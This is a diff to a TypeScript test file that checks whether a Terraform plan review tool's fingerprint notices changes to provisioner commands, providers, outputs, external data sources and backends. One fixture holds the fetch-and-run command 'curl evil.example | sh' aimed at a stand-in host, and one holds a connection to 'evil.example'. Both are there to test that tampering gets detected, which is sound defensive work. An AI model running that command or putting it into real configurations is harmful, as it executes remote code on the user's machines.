@@ -1,4 +1,4 @@
-import { planFingerprint } from "../../review/plan/fingerprint";
+import { FINGERPRINT, planFingerprint, shortFingerprint } from "../../review/plan/fingerprint";
 import { planResources } from "../../review/plan/plan-resources";
 import { readPlan } from "../../review/plan/read-plan";
 import { reviewOf, reviewOfAccounts } from "./given-reviews";
@@ -52,5 +52,95 @@ test("of several stacks is one, and that of a single stack its own", () => {
   const { fingerprint, stacks } = reviewOf("approved-at-once");
 
   expect(fingerprint).toBe(stacks[0]?.fingerprint);
-  expect(reviewOfAccounts().fingerprint).toMatch(/^[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}$/);
+  expect(reviewOfAccounts().fingerprint).toMatch(FINGERPRINT);
+});
+
+describe("holds what is applied beside the changes", () => {
+  const { plan } = recorded("approved-at-once");
+  type Configured = { root_module: { resources: object[] }; provider_config: Record<string, object> };
+  const configuration = plan.configuration as Configured;
+  const [first] = configuration.root_module.resources as [object];
+  const withResource = (resource: object) => ({
+    ...plan,
+    configuration: { ...configuration, root_module: { ...configuration.root_module, resources: [resource] } },
+  });
+  const running = (command: string) =>
+    withResource({
+      ...first,
+      provisioners: [{ type: "local-exec", expressions: { command: { constant_value: command } } }],
+    });
+  const output = (after: unknown, marks: object = {}) => ({
+    ...plan,
+    output_changes: { id: { actions: ["update"], before: "a", after, after_unknown: false, ...marks } },
+  });
+  const provider = (expressions: object) => ({
+    ...plan,
+    configuration: { ...configuration, provider_config: { aws: { name: "aws", expressions } } },
+  });
+
+  test.each<[string, object, object]>([
+    ["a provisioner", withResource(first), running("true")],
+    ["the command of a provisioner", running("true"), running("curl evil.example | sh")],
+    ["a value of an output", output("b"), output("c")],
+    [
+      "the Region of a provider",
+      provider({ region: { constant_value: "eu-central-1" } }),
+      provider({ region: { constant_value: "us-east-1" } }),
+    ],
+    [
+      "the role of a provider",
+      provider({}),
+      provider({ assume_role: [{ role_arn: { constant_value: "arn:aws:iam::1:role/a" } }] }),
+    ],
+    [
+      "the program of a data source",
+      withResource({
+        address: "data.external.x",
+        mode: "data",
+        type: "external",
+        expressions: { program: { constant_value: ["true"] } },
+      }),
+      withResource({
+        address: "data.external.x",
+        mode: "data",
+        type: "external",
+        expressions: { program: { constant_value: ["sh"] } },
+      }),
+    ],
+  ])("%s", (_, one, other) => {
+    expect(of(one)).not.toBe(of(other));
+  });
+
+  test.each<[string, object, object]>([
+    ["the value of a sensitive output", output("b", { after_sensitive: true }), output("c", { after_sensitive: true })],
+    [
+      "the secret key of a provider",
+      provider({ secret_key: { constant_value: "a" } }),
+      provider({ secret_key: { constant_value: "b" } }),
+    ],
+  ])("but not %s", (_, one, other) => {
+    expect(of(one)).toBe(of(other));
+  });
+
+  test("the stack's name, its backend and its connections, where the program tells them", () => {
+    const read = readPlan(JSON.stringify(plan));
+    const targets = [
+      undefined,
+      { name: "prod", backend: { s3: { bucket: "states", key: "prod" } }, connections: [] },
+      { name: "test", backend: { s3: { bucket: "states", key: "prod" } }, connections: [] },
+      { name: "prod", backend: { s3: { bucket: "others", key: "prod" } }, connections: [] },
+      {
+        name: "prod",
+        backend: { s3: { bucket: "states", key: "prod" } },
+        connections: [["a", { host: "evil.example" }]],
+      },
+    ];
+
+    expect(new Set(targets.map((target) => planFingerprint(read, planResources(read), target))).size).toBe(5);
+  });
+
+  test("in 128 bits, of which 48 are shown", () => {
+    expect(of(plan)).toMatch(FINGERPRINT);
+    expect(shortFingerprint(of(plan))).toBe(of(plan).slice(0, 14));
+  });
 });
